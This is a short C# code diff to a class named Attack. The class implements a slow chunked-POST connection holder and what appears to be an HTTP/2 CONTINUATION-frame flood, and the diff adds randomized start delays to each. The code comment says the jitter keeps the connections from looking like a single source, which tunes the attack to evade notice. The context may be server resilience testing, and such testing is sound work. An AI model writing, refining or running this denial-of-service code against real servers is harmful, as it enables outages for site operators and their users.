@@ -101,6 +101,7 @@ internal static class Attack
         using var socket = await Connect(port);
         await socket.SendAsync("POST / HTTP/1.1\r\nHost: body.example\r\nTransfer-Encoding: chunked\r\n\r\n"u8.ToArray(), stop);
         var piece = Encoding.ASCII.GetBytes($"{BodyPieceBytes:x}\r\n{new string('b', BodyPieceBytes)}\r\n");
+        await Task.Delay(BodyPieceEvery * Random.Shared.NextDouble(), stop); // not all at the same moment, as if they were one
         for (var answer = new byte[4096]; ; await Task.Delay(BodyPieceEvery, stop))
         {
             await socket.SendAsync(piece, stop);
@@ -120,6 +121,7 @@ internal static class Attack
         var more = new byte[9 + ContinuationBytes];
         (more[1], more[3], more[8]) = (ContinuationBytes >> 8, 9, 1);
         for (var at = 9; at < more.Length; at += header.Length) header.CopyTo(more, at);
+        await Task.Delay(ContinuationEvery * Random.Shared.NextDouble(), stop);
         for (var drop = new byte[4096]; ; await Task.Delay(ContinuationEvery, stop))
         {
             await socket.SendAsync(more, stop);
